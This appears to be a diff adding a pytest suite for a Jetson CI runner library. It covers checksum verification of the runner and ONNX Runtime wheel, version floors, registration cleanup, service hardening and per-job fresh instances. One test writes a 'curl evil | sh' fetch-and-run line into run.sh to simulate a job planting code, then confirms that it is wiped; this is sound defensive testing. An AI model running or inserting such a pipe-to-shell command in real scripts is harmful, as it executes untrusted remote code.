@@ -1,0 +1,200 @@
+"""ci/jetson/runner-lib.sh with fakes (issue 17.6, 17.10): the runner release and the ORT wheel are
+verified before use, the version floor holds, stale registrations are removed, every job's instance
+starts clean. A static HTTP server on 127.0.0.1 plays GitHub's releases API and the Jetson Zoo.
+"""
+
+from __future__ import annotations
+
+import functools
+import hashlib
+import io
+import json
+import os
+import subprocess
+import tarfile
+import threading
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+REPO = Path(__file__).resolve().parents[2]
+LIB = REPO / "ci" / "jetson" / "runner-lib.sh"
+
+
+class Quiet(SimpleHTTPRequestHandler):
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture
+def web(tmp_path):
+    root = tmp_path / "web"
+    root.mkdir()
+    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(root)))
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield root, f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+
+
+def runner_tarball() -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
+        for name, text in {"run.sh": "#!/bin/sh\necho run\n", "config.sh": "#!/bin/sh\necho config\n"}.items():
+            info = tarfile.TarInfo(name)
+            info.mode, data = 0o755, text.encode()
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+def publish(web, version: str, published_sha: str | None = None, digest: str | None = None) -> str:
+    root, url = web
+    name = f"actions-runner-linux-arm64-{version}.tar.gz"
+    data = runner_tarball()
+    (root / name).write_bytes(data)
+    sha = published_sha or hashlib.sha256(data).hexdigest()
+    body = "## SHA-256 Checksums\n\n" + "\n".join(
+        f"- actions-runner-{p}-{version}.tar.gz <!-- BEGIN SHA {p} -->{s}<!-- END SHA {p} -->"
+        for p, s in (("linux-x64", "0" * 64), ("linux-arm64", sha))
+    )
+    asset = {"name": name, "browser_download_url": f"{url}/{name}"}
+    if digest:
+        asset["digest"] = digest
+    (root / "latest").write_text(json.dumps({"tag_name": f"v{version}", "body": body, "assets": [asset]}))
+    return hashlib.sha256(data).hexdigest()
+
+
+def bash(script: str, web=None, **env: str) -> subprocess.CompletedProcess[str]:
+    full = {"PATH": os.environ["PATH"], **env}
+    if web:
+        full["RUNNER_RELEASES_API"] = f"{web[1]}/latest"
+    return subprocess.run(
+        ["bash", "-c", f"set -euo pipefail; source {LIB}; {script}"], env=full, capture_output=True, text=True
+    )
+
+
+def test_the_latest_release_is_installed_verified_and_read_only(web, tmp_path):
+    sha = publish(web, "2.336.0", digest=None)
+    proc = bash(f"install_runner {tmp_path / 'dist'}", web)
+    assert proc.returncode == 0, proc.stderr
+    assert f"actions/runner 2.336.0 ({sha})" in proc.stdout
+    assert (tmp_path / "dist/current").resolve() == (tmp_path / "dist/2.336.0").resolve()
+    assert (tmp_path / "dist/current/run.sh").stat().st_mode & 0o022 == 0  # not group/other-writable
+
+
+def test_a_package_that_does_not_match_its_published_sha256_is_refused(web, tmp_path):
+    publish(web, "2.336.0", published_sha="f" * 64)
+    proc = bash(f"install_runner {tmp_path / 'dist'}", web)
+    assert proc.returncode != 0 and "refused:" in proc.stderr and "expected " + "f" * 64 in proc.stderr
+    assert not (tmp_path / "dist").exists() or not any((tmp_path / "dist").iterdir())
+
+
+def test_an_asset_digest_that_disagrees_with_the_release_notes_is_refused(web, tmp_path):
+    publish(web, "2.336.0", digest="sha256:" + "e" * 64)
+    proc = bash(f"install_runner {tmp_path / 'dist'}", web)
+    assert proc.returncode != 0 and "disagrees with the release notes" in proc.stderr
+
+
+def test_a_release_below_the_floor_is_refused(web, tmp_path):
+    publish(web, "2.321.0")
+    proc = bash(f"install_runner {tmp_path / 'dist'}", web)
+    assert proc.returncode != 0 and "2.321.0 is older than 2.329.0" in proc.stderr
+    assert (
+        bash("version_ge 2.329.0 2.329.0 && version_ge 2.330.1 2.329.0 && ! version_ge 2.99.0 2.329.0").returncode == 0
+    )
+
+
+def test_stale_registration_files_are_removed_and_nothing_else(tmp_path):
+    for name in (".runner", ".credentials", ".credentials_rsaparams", ".env", "run.sh"):
+        (tmp_path / name).write_text("x")
+    assert bash(f"clean_stale_registration {tmp_path}").returncode == 0
+    assert sorted(p.name for p in tmp_path.iterdir()) == [".env", "run.sh"]
+
+
+def test_every_job_gets_a_fresh_instance(web, tmp_path):
+    publish(web, "2.336.0")
+    dist, instance = tmp_path / "dist", tmp_path / "instance"
+    assert bash(f"install_runner {dist}", web).returncode == 0
+    user = subprocess.run(["id", "-un"], capture_output=True, text=True, check=True).stdout.strip()
+    assert bash(f"fresh_instance {dist} {instance} {user}").returncode == 0
+    (instance / "runner/run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")  # a job plants code ...
+    (instance / "runner/.runner").write_text("{}")  # ... and is killed mid-registration
+    (instance / "home/.bashrc").write_text("evil")
+    assert bash(f"fresh_instance {dist} {instance} {user}").returncode == 0
+    assert "evil" not in (instance / "runner/run.sh").read_text()
+    assert not (instance / "runner/.runner").exists() and not (instance / "home/.bashrc").exists()
+    assert "evil" not in (dist / "current/run.sh").read_text()  # the release itself was never touched
+
+
+@pytest.fixture
+def zoo(web):
+    root, url = web
+    wheel = b"PK\x03\x04 a wheel"
+    (root / "9f86d081884c7d65.whl").write_bytes(wheel)  # Jetson Zoo serves <hash>.whl
+    return url, hashlib.sha256(wheel).hexdigest()
+
+
+def _wheels(tmp_path, url, sha, name="onnxruntime_gpu-1.11.0-cp38-cp38-linux_aarch64.whl") -> Path:
+    f = tmp_path / "ort-wheels.txt"
+    f.write_text(f"# comment\n36 3.10 x y z\n32 3.8 {name} {url}/9f86d081884c7d65.whl {sha}\n")
+    return f
+
+
+def _fake_pip(tmp_path) -> Path:
+    pip = tmp_path / "pip"
+    pip.write_text(f'#!/bin/sh\necho "$@" > {tmp_path}/pip.args\ncp "$3" {tmp_path}/installed.whl\n')
+    pip.chmod(0o755)
+    return pip
+
+
+def test_the_zoo_wheel_is_saved_under_its_real_name_checked_and_installed_by_path(zoo, tmp_path):
+    url, sha = zoo
+    pip = _fake_pip(tmp_path)
+    proc = bash(f"install_ort_wheel {_wheels(tmp_path, url, sha)} 32 3.8 {pip}")
+    assert proc.returncode == 0, proc.stderr
+    args = (tmp_path / "pip.args").read_text().split()
+    assert args[:2] == ["install", "--no-deps"] and args[2].endswith(
+        "/onnxruntime_gpu-1.11.0-cp38-cp38-linux_aarch64.whl"
+    )
+    assert (tmp_path / "installed.whl").read_bytes() == b"PK\x03\x04 a wheel"
+
+
+@pytest.mark.parametrize(
+    ("sha", "name", "why"),
+    [
+        ("0" * 64, None, "refused: /"),
+        (None, "9f86d081884c7d65.whl", "is not an onnxruntime_gpu linux_aarch64 wheel file name"),
+    ],
+)
+def test_a_wrong_wheel_is_never_installed(zoo, tmp_path, sha, name, why):
+    url, good = zoo
+    pip = _fake_pip(tmp_path)
+    wheels = _wheels(tmp_path, url, sha or good, *([name] if name else []))
+    proc = bash(f"install_ort_wheel {wheels} 32 3.8 {pip}")
+    assert proc.returncode != 0 and why in proc.stderr and not (tmp_path / "pip.args").exists()
+    assert bash(f"install_ort_wheel {wheels} 35 3.8 {pip}").returncode != 0  # no wheel pinned for L4T R35
+
+
+def test_numpy_stays_below_2_for_every_install():
+    constraints = (REPO / "ci" / "jetson" / "constraints.txt").read_text()
+    assert "numpy<2" in [line.strip() for line in constraints.splitlines()]
+    prepare = (REPO / "ci" / "jetson" / "prepare-runner.sh").read_text()
+    assert 'pipc=("$venv/bin/python" -m pip install --quiet -c "$here/constraints.txt")' in prepare
+    assert '"${pipc[@]}" opencv-python-headless' in prepare
+
+
+def test_the_service_lets_a_job_write_only_its_instance_and_never_pins_the_runner():
+    prepare = (REPO / "ci" / "jetson" / "prepare-runner.sh").read_text()
+    for line in (
+        "ProtectSystem=strict",
+        "PrivateTmp=yes",
+        "ProtectHome=yes",
+        "ExecStopPost=+/opt/edgeproof/bin/runner-instance.sh remove",
+    ):
+        assert line in prepare, line
+    assert "chown -R root:root /opt/edgeproof" in prepare and "--no-create-home" in prepare
+    for script in ("prepare-runner.sh", "ephemeral-runner.sh", "runner-instance.sh"):
+        text = (REPO / "ci" / "jetson" / script).read_text()
+        assert "--disableupdate" not in text.replace("No --disableupdate", "") and "RUNNER_VERSION=" not in text, script
+    assert "GITHUB_PAT" not in (REPO / "ci" / "jetson" / "ephemeral-runner.sh").read_text()
